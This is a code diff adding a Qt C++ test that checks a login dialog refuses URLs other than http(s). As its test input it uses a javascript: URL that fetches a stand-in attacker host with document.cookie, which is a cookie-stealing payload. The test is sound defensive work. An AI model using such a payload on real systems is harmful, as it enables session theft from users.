@@ -237,6 +237,37 @@ private slots:
         QVERIFY(!form->findChild<QToolButton*>(QStringLiteral("TBLogin"))->isEnabled());
     }
 
+    // A login address typed in the dialog that is not http(s) with a host is
+    // named at once, and a login to it is refused without a window.
+    void dialogRefusesAnUnsafeLoginAddress()
+    {
+        QTemporaryDir settings;
+        NetworkList networks;
+        networks.push_back(MakeNetwork(QStringLiteral("エーネット"), m_server.url(QStringLiteral("login"))));
+        SaveNetworksFile(settings.path(), networks);
+        auto form = StartForm(settings.path(), settings.path());
+        auto* dialog = form->findChild<TFmNetworks*>();
+        bool ran = false;
+        QTimer::singleShot(0, dialog, [&] {
+            ran = true;
+            const QString unsafe = QStringLiteral("javascript:fetch('//evil.example/?'+document.cookie)");
+            Type(dialog, "EdLoginURL", unsafe);
+            QCOMPARE(m_messages.size(), 1);
+            QVERIFY2(
+                m_messages[0].contains(unsafe) && m_messages[0].contains(QStringLiteral("http: または https:")),
+                qPrintable(m_messages[0]));
+            Type(dialog, "EdUser", QStringLiteral("me"));
+            Type(dialog, "EdPassword", QStringLiteral("secret"));
+            Child<QPushButton>(dialog, "P3DLogon")->click();
+            QCOMPARE(m_messages.size(), 2);
+            QCOMPARE(m_messages[1], m_messages[0]);
+            QVERIFY(WindowsNamed(QStringLiteral("LoginWindow")).isEmpty());
+            Child<QPushButton>(dialog, "BtnClose")->click();
+        });
+        form->findChild<QAction*>(QStringLiteral("MINetwork"))->trigger();
+        QVERIFY(ran);
+    }
+
     // Logins and profiles edited in the dialog reach the files and the login
     // menu when the dialog closes.
     void dialogStoresLoginsAndProfiles()
